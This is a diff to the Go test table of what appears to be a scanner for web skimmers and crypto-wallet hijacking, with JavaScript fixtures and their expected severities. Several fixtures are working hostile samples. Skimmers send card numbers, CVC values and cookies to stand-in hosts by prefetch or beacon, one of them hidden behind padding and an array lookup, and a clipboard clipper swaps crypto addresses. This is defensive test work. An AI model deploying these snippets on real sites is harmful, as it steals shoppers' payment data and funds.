@@ -13,6 +13,14 @@ func TestFormSkimmer(t *testing.T) {
 		{"skimmer", map[string]string{"index.js": `for (var i = 0; i < document.forms.length; i++) document.forms[i].addEventListener("submit", function () {
   var data = document.forms[i].querySelector("[name=card_number]").value;
   var l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://metrics.example.invalid/c?d=" + btoa(data + document.cookie); document.head.appendChild(l) })`}, finding.SeverityCritical},
+		// the skimmer's URL kept in a constant array far above the link
+		// it prefetches
+		{"skimmer_url_in_array", map[string]string{"index.js": "var _0xd0e4 = [\"https://metrics.example.invalid/m.php?pl=\"];\n" + strings.Repeat("function pad() { return 1 }\n", 200) +
+			"function snd(pl) { var q = _0xd0e4[0] + pl; const l = document.createElement(\"link\"); l.rel = \"prefetch\"; l.href = q; document.head.appendChild(l) }\n" +
+			"for (const f of document.forms) f.addEventListener(\"submit\", function () { for (const e of this.elements) if (e.name == \"cvc\") snd(btoa(e.value + document.cookie)) })"}, finding.SeverityCritical},
+		// a session recorder masks card fields; its requests go to the
+		// host it is configured with, the URL in the file is a docs link
+		{"session_recorder_masking", map[string]string{"index.js": `const MASK = /cc-number|cardnum|cvv/i; const DOCS = "https://docs.example.invalid/privacy"; document.addEventListener("submit", e => record(mask(e.target, MASK))); function flush(host, batch) { fetch(host + "/s", { method: "POST", body: batch }) }`}, finding.SeverityNone},
 		{"form_library", map[string]string{"index.js": `export function values() { return Array.from(document.forms[0].elements).map(e => e.value) }`}, finding.SeverityNone},
 		// card fields picked on submit and beaconed away
 		{"card_skimmer", map[string]string{"index.js": `document.addEventListener("submit", e => { const f = e.target; if (f.querySelector('input[autocomplete="cc-number"], input[name*="cvv"]')) navigator.sendBeacon("https://cdn-metrics.example.invalid/c", JSON.stringify(Object.fromEntries(new FormData(f)))) }, true)`}, finding.SeverityCritical},
@@ -42,6 +50,8 @@ Object.defineProperty(window, "ethereum", { get: function () { return hook(real)
 		// a wallet connector logging requests
 		{"logging_connector", map[string]string{"index.js": `const eth = window.ethereum; const orig = eth.request.bind(eth); eth.request = async (a) => { console.debug(a.method); return orig(a) }`}, finding.SeverityNone},
 		// a dapp sending a payment to the address the user typed
+		// a wallet library defaults a deployment's recipient to the zero address
+		{"zero_address_default", map[string]string{"index.js": `const ZeroAddress = "0x0000000000000000000000000000000000000000"; export function populate(tx) { if (tx.to == null) tx.to = ZeroAddress; return provider.send("eth_sendTransaction", [tx]) }`}, finding.SeverityNone},
 		{"dapp_payment", map[string]string{"index.js": `export async function pay(to, value) { const tx = {}; tx.to = to; tx.value = value; return window.ethereum.request({ method: "eth_sendTransaction", params: [tx] }) }`}, finding.SeverityNone},
 		{"clipboard_clipper", map[string]string{"index.js": `const clip=require("clipboardy");const eth=new RegExp("0x[a-fA-F0-9]{40}"),btc=new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");setInterval(()=>clip.writeSync(swap(clip.readSync())),500)`}, finding.SeverityCritical},
 		// one address pattern, a hook on the wallet and the attacker's
